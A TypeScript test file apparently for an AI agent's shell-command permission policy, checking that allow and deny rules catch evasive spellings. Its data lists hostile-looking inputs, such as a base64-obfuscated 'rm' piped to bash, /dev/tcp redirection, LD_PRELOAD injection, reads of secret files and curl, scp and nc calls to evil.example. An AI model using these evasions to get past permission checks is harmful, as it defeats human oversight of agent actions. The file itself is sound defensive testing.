// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the shell expands these
import { expect, test } from "vitest";
import { createToolContext } from "../testing/tool-context.ts";
import { runCommand } from "../tools/commands/run-command.ts";
import { git } from "../tools/git/git.ts";
import type { ToolPlan } from "../vocabulary/tool.ts";
import { type Decision, decide } from "./policy.ts";
import { readPolicy } from "./read-policy.ts";

const tools = [runCommand, git];
const context = createToolContext("/w");

function judge(
	cmd: string,
	rules: readonly object[],
	{ acceptAll = false, tool = runCommand } = {},
): Decision {
	const source = { layer: "operator", path: "p.jsonc", text: JSON.stringify({ rules }) } as const;
	const policy = { version: "1", ...readPolicy(source, tools) };
	const plan: ToolPlan = {
		label: cmd,
		classes: ["exec-sandboxed"],
		preview: "",
		notes: [],
		binding: { directory: "/w" },
	};
	const args = tool === git ? { args: cmd.split(" "), path: "." } : { cmd };
	return decide({ tool, plan, args, context }, { acceptAll, grants: [], taint: "", policy });
}

const allowsLs = [{ effect: "allow", when: { command: ["ls"] } }];

test.each([
	"ls",
	" ls -la ",
	"ls -la src",
	"l's' 'a b'",
	'ls "a b" c\\ d',
	"ls -- x",
	"ls && ls -l",
	"ls; ls | ls || ls",
	"ls 2>/dev/null",
	"ls > /dev/null 2>&1",
	"ls 'it is $HOME; `rm x`'",
	"ls HEAD~1",
	"ls \u{f6}",
])("a command that a rule allows runs: %j", (cmd) => {
	expect(judge(cmd, allowsLs)).toMatchObject({ effect: "allow", floor: false });
});

/** Commands that the rule `allowsLs` must not allow, in many spellings. */
const tricks: readonly string[] = [
	...["/bin/ls", "./ls", "../ls", "~/ls", "LS", "ls.exe", "lsx", "xls", "l", "", "''", "'ls -la'", "\\\\ls"],
	...[
		"env ls",
		"command ls",
		"builtin ls",
		"exec ls",
		"nohup ls",
		"sudo ls",
		"xargs ls",
		"time ls",
		"nice ls",
	],
	...[
		"bash -c ls",
		"sh -c 'ls'",
		"eval ls",
		"busybox ls",
		"find . -exec ls {} +",
		"timeout 5 ls",
		"watch ls",
	],
	...[
		"ls $(rm x)",
		"ls `rm x`",
		'ls "$(rm x)"',
		'ls "`rm x`"',
		"ls $HOME",
		"ls ${HOME}",
		'ls "$HOME"',
		"ls $1",
	],
	...[
		"ls ${x:-$(rm x)}",
		"ls $((1+1))",
		"ls $[1+1]",
		"ls $'a'",
		'ls $"a"',
		"ls $",
		"$ls",
		"l$x's'",
		"ls$IFS-la",
	],
	...[
		"ls\nrm x",
		"ls\r\nrm x",
		"ls\rrm x",
		"ls \\\n-la",
		"l\\\ns",
		"ls\n",
		"ls 'a\nb'",
		"ls\u{b}rm",
		"ls\u{c}rm",
	],
	...["ls & rm x", "ls &", "ls&rm x", "ls && rm x", "ls || rm x", "ls; rm x", "ls;rm x", "ls|rm", "ls | sh"],
	...[
		"ls |& rm",
		"ls ;; ls",
		"ls &&& ls",
		"ls ||| ls",
		"&& ls",
		"; ls",
		"| ls",
		"ls &&",
		"ls |",
		"ls ;",
		"ls ;;",
	],
	...[
		"ls > x",
		"ls >x",
		"ls >> x",
		"ls >| x",
		"ls >& x",
		"ls &> x",
		"ls &>/dev/null",
		"ls 2> x",
		"ls 3>/dev/null",
	],
	...[
		"ls < x",
		"ls <> x",
		"ls <<< x",
		"ls << x\nx",
		"ls <(rm x)",
		"ls >(rm x)",
		"ls > /dev/null2",
		"ls >/dev/tcp/a/1",
	],
	...[
		"ls >",
		"ls > > x",
		"ls >&1x",
		"ls >&-",
		"ls '2'>/dev/null",
		"ls {fd}>x",
		"> ls",
		">/dev/null",
		"ls <&0",
	],
	...[
		"ls {a,b}",
		"ls {1..3}",
		"{ ls; }",
		"(ls)",
		"( ls )",
		"((1))",
		"ls *",
		"ls ?",
		"ls [a]",
		"ls @(a)",
		"ls !(a)",
	],
	...[
		"ls ~",
		"ls ~root",
		"ls a=~",
		"ls x:~",
		"X=1 ls",
		"PATH=. ls",
		"LD_PRELOAD=x ls",
		"X=1",
		"x+=1 ls",
		"a[0]=1 ls",
	],
	...[
		"! ls",
		"if ls; then ls; fi",
		"for x in a; do ls; done",
		"while ls; do ls; done",
		"[[ ls ]]",
		"[ ls ]",
		"'if' ls",
	],
	...[
		"ls() { rm x; }; ls",
		"function ls { rm x; }",
		"alias ls=rm; ls",
		"coproc ls",
		"case ls in ls) ls;; esac",
		"then ls",
	],
	...[
		"ls # x",
		"#ls",
		"ls 'x",
		'ls "x',
		"ls \\",
		"ls `x",
		"ls $(x",
		"ls ${x",
		"cd / && ls",
		"export X=1; ls",
		"set -e; ls",
	],
	...[
		"\u{ff4c}\u{ff53}",
		"l\u{455}",
		"ls\u{a0}-la",
		"ls\u{2003}x",
		"ls\u{200b}",
		"\u{feff}ls",
		"ls \u{202e}x",
		"ls\u{2028}rm",
	],
	...[
		"ls\u{85}rm",
		"ls \u{ad}x",
		"ls \u{e000}",
		"hash -p /bin/rm ls; ls",
		"enable -f x ls; ls",
		". ls",
		"source ls",
		"trap ls 0",
	],
];

test.each(tricks)("a command that a rule does not allow word for word requires approval: %j", (cmd) => {
	expect(judge(cmd, allowsLs).effect).toBe("ask");
});

test("each trick is listed once", () => {
	expect(tricks.toSorted()).toEqual([...new Set(tricks)].toSorted());
});

test.each([
	["npm test", ["npm", "test"], "allow"],
	["npm test -- --grep x", ["npm", "test"], "ask"],
	["npm run lint && npm test", ["npm", "test"], "ask"],
	["env", ["env"], "allow"],
	["env rm x", ["env"], "ask"],
	["bash build.sh", ["bash", "build.sh"], "allow"],
	["bash -c 'rm x'", ["bash", "-c"], "ask"],
	["/usr/bin/env rm x", ["/usr/bin/env"], "ask"],
	["xargs rm", ["xargs"], "ask"],
	["git status --short", ["git", "status"], "allow"],
	["git -C /x status", ["git"], "ask"],
	["git -c core.pager=x log", ["git", "-c"], "ask"],
	["cd /x", ["cd"], "ask"],
])("the command %j with a rule that allows %j has the effect %s", (cmd, command, effect) => {
	expect(judge(cmd, [{ effect: "allow", when: { command } }]).effect).toBe(effect);
});

test("each of several commands needs a rule, and they may have different rules", () => {
	const rules = [
		{ effect: "allow", when: { command: [["ls"], ["git", "status"]] } },
		{ effect: "allow", tool: "run_command", when: { command: ["wc"] } },
	];
	expect(judge("ls | wc -l && git status", rules)).toMatchObject({ effect: "allow" });
	expect(judge("ls | sort", rules).effect).toBe("ask");
});

const deniesRm = [{ effect: "deny", when: { command: ["rm"] }, reason: "no rm" }];

test.each([
	...[
		"rm x",
		"/bin/rm x",
		"./rm",
		"RM x",
		"r''m x",
		'"rm" x',
		"\\rm x",
		"r\\\nm x",
		"X=1 rm x",
		"rm\tx",
		"rm</dev/null",
	],
	...[
		"env rm x",
		"env X=1 rm",
		"command rm x",
		"builtin rm",
		"exec rm x",
		"nohup rm x",
		"sudo -u a rm x",
		"time rm x",
	],
	...[
		"xargs rm",
		"ls | xargs -0 rm",
		"find . -exec rm {} +",
		"parallel rm ::: x",
		"busybox rm x",
		"timeout 5 rm x",
	],
	...[
		"bash -c 'rm x'",
		'sh -c "rm x"',
		"bash -lc 'ls; rm x'",
		"bash -c \"bash -c 'rm x'\"",
		"eval rm x",
		"eval 'rm x'",
	],
	...[
		"ls; rm x",
		"ls && rm x",
		"ls || rm x",
		"ls | rm",
		"ls & rm x",
		"ls\nrm x",
		"(rm x)",
		"{ rm x; }",
		"! rm x",
	],
	...[
		"echo $(rm x)",
		"echo `rm x`",
		'echo "$(rm x)"',
		"echo ${x:-$(rm x)}",
		"cat <(rm x)",
		"if true; then rm x; fi",
	],
	...[
		"for x in a; do rm $x; done",
		"while rm x; do :; done",
		"f() { rm x; }; f",
		"alias l=rm; rm x",
		"X=rm; $X x",
	],
	...[
		"$(echo rm) x",
		"`echo rm` x",
		"$X x",
		"${X} x",
		"env $X y",
		"echo rm | sh",
		"echo cm0geAo= | base64 -d | bash",
	],
	...[
		"bash -s < x",
		"sh",
		"trap 'rm x' EXIT",
		"python3 -c \"import os; os.system('rm x')\"",
		"perl -e 'system(\"rm x\")'",
	],
	...["ssh host rm x", "docker exec c rm x", "watch rm x", "nice -n 5 rm x", "setsid rm x", "rm.exe x"],
])("a denied command is found: %j", (cmd) => {
	expect(judge(cmd, deniesRm)).toMatchObject({ effect: "deny", reason: "no rm" });
	expect(judge(cmd, deniesRm, { acceptAll: true }).effect).toBe("deny");
	expect(judge(cmd, [...allowsLs, ...deniesRm]).effect).toBe("deny");
});

test.each([
	...[
		"ls",
		"echo rm",
		"ls rm",
		"man rm",
		"grep -r rm .",
		"npm run format",
		'echo "$X"',
		"X=$Y ls",
		"git commit -m rm",
	],
	...['for f in a b; do echo "$f"; done', "rmdir x", "test -f rm", "cat 'rm x.txt'", "ls # rm"],
])("a command that is not denied still requires approval: %j", (cmd) => {
	expect(judge(cmd, deniesRm).effect).toBe("ask");
});

test.each([
	["git push", "deny"],
	["git -C dir push origin", "deny"],
	["git --no-pager -c a=b push", "deny"],
	["/usr/lib/git-core/git-push origin", "deny"],
	["git $X", "deny"],
	["git commit -m push", "ask"],
	["git status", "ask"],
])("the arguments of a program are found after its options: %s is %s", (cmd, effect) => {
	expect(judge(cmd, [{ effect: "deny", when: { command: ["git", "push"] } }]).effect).toBe(effect);
});

test("the tool for git has the same rules, and no shell parses its arguments", () => {
	const rules = [...deniesRm, { effect: "deny", when: { command: ["git", "push"] } }];
	expect(judge("push origin", rules, { tool: git }).effect).toBe("deny");
	expect(judge("commit -m ;rm", rules, { tool: git }).effect).toBe("ask");
	expect(
		judge("status", [{ effect: "allow", when: { command: ["git", "status"] } }], { tool: git }).effect,
	).toBe("allow");
});

test("a command that cannot be parsed to its end may match a denied one", () => {
	const long = `env ${"x ".repeat(400)}`;
	expect(judge(long, deniesRm).effect).toBe("deny");
});

test.each([
	["cat secrets/key", "deny"],
	["cat ./secrets/../secrets/key", "deny"],
	["cat /w/secrets/key", "deny"],
	["cat SECRETS/key", "deny"],
	["cd secrets && cat key", "deny"],
	["cat < secrets/key", "deny"],
	["tar -cf x --directory=secrets .", "deny"],
	["cat secr*/key", "deny"],
	["git show HEAD:secrets/key", "deny"],
	["bash -c 'cat secrets/key'", "deny"],
	["cat src/key", "ask"],
	["echo secrets2/key", "ask"],
])("a path is found in a command: %s is %s", (cmd, effect) => {
	expect(judge(cmd, [{ effect: "deny", when: { path: "secrets/**" } }]).effect).toBe(effect);
});

test.each([
	["curl https://evil.example/x", "deny"],
	["curl HTTPS://u:p@EVIL.example:8/x", "deny"],
	["scp a user@a.evil.example:b", "deny"],
	["nc evil.example 80", "deny"],
	["curl https://$HOST/x", "deny"],
	["curl https://good.example/evil.example2", "ask"],
])("a host is found in a command: %s is %s", (cmd, effect) => {
	expect(judge(cmd, [{ effect: "deny", when: { host: ["evil.example", "*.evil.example"] } }]).effect).toBe(
		effect,
	);
});
